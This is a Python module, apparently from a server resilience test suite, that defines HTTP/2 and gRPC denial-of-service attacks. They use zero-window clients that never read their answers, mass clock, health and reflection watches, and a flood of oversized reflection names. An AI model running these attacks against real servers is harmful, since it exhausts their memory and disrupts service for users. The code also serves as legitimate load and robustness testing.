"""Attacks by clients that ask and do not read: their window is nothing, so the host keeps it all."""

import h2
from attack import Bounds, attack, flood, hold
from attacks.connections import GET_TIME
from attacks.floods import SILENCED

CONNECTIONS = 10


def nothing_read(target, until, write, connections=CONNECTIONS):
    """Has write(connection) send what asks, on each connection; then none is read any more."""
    opened, sent = [], 0
    for _ in until.times(connections):
        connection = h2.Connection(target.data).hello(until, initial_window_size=0)
        opened.append(connection)
        sent += write(connection)
    hold(until, opened)
    return {"connections": len(opened), "calls": sent}


def watch(path, body, count=200):
    """Calls with one message, whose answers are many."""
    block = h2.call_headers(path)

    def write(connection, until):
        calls = b"".join(h2.whole_call(stream, block, body) for stream in connection.streams(count))
        return count * connection.send(until, calls)
    return write


@attack()
def unread_answers(target, until):
    """2,000 calls on 10 connections whose answers are not read"""
    def write(connection):
        calls = b"".join(h2.whole_call(stream, GET_TIME) for stream in connection.streams(200))
        return 200 * connection.send(until, calls)
    return nothing_read(target, until, write)


@attack()
def unread_clock_watches(target, until):
    """2,000 watches of the time, 100 times a second each, that are not read"""
    write = watch("/mainspring.clock.v1.Clock/WatchTime",
                  h2.message(b"\x0a\x05\x10\x80\xad\xe2\x04"))  # interval: 10,000,000 ns
    return nothing_read(target, until, lambda connection: write(connection, until))


@attack()
def read_clock_watches(target, until):
    """2,000 watches of the time, 100 times a second each, that are read"""
    write = watch("/mainspring.clock.v1.Clock/WatchTime",
                  h2.message(b"\x0a\x05\x10\x80\xad\xe2\x04"))
    opened = []
    for _ in until.times(CONNECTIONS):
        opened.append(h2.Connection(target.data).hello(until))
        write(opened[-1], until)
    for _ in until.times(1_000_000):
        for each in opened:
            if each.alive:
                each.wait(until, 0.01)
                each.send(until, h2.window_update(0, 1 << 16))
    return {"connections": len(opened), "bytes read": sum(each.received for each in opened)}


@attack()
def unread_health_watches(target, until):
    """2,000 watches of health that are not read"""
    write = watch("/grpc.health.v1.Health/Watch", h2.message())
    return nothing_read(target, until, lambda connection: write(connection, until))


@attack()
def unread_reflection(target, until):
    """4,000 streams of reflection that ask for one big file 100 times each, and read none"""
    name = b"google/protobuf/descriptor.proto"
    question = h2.message(b"\x1a" + bytes([len(name)]) + name) * 100
    block = h2.call_headers("/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")

    def write(connection):
        streams = connection.streams(200)
        for stream in streams:
            if not connection.send(until, h2.open_call(stream, block)
                                   + h2.frame(h2.DATA, 0, stream, question)):
                return 0
        return len(streams)
    return nothing_read(target, until, write, connections=20)


@attack(bounds=SILENCED)
def long_reflection_names(target, until):
    """reflection that asks for names of 3,000 bytes without a pause, and reads all answers"""
    name = b"x" * 3000
    question = h2.message(b"\x22" + bytes([len(name) & 127 | 128, len(name) >> 7]) + name)
    block = h2.call_headers("/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")

    def burst(connection):
        return b"".join(h2.whole_call(stream, block, question) for stream in connection.streams(10))
    return flood(target, until, burst, data=10 * len(question))
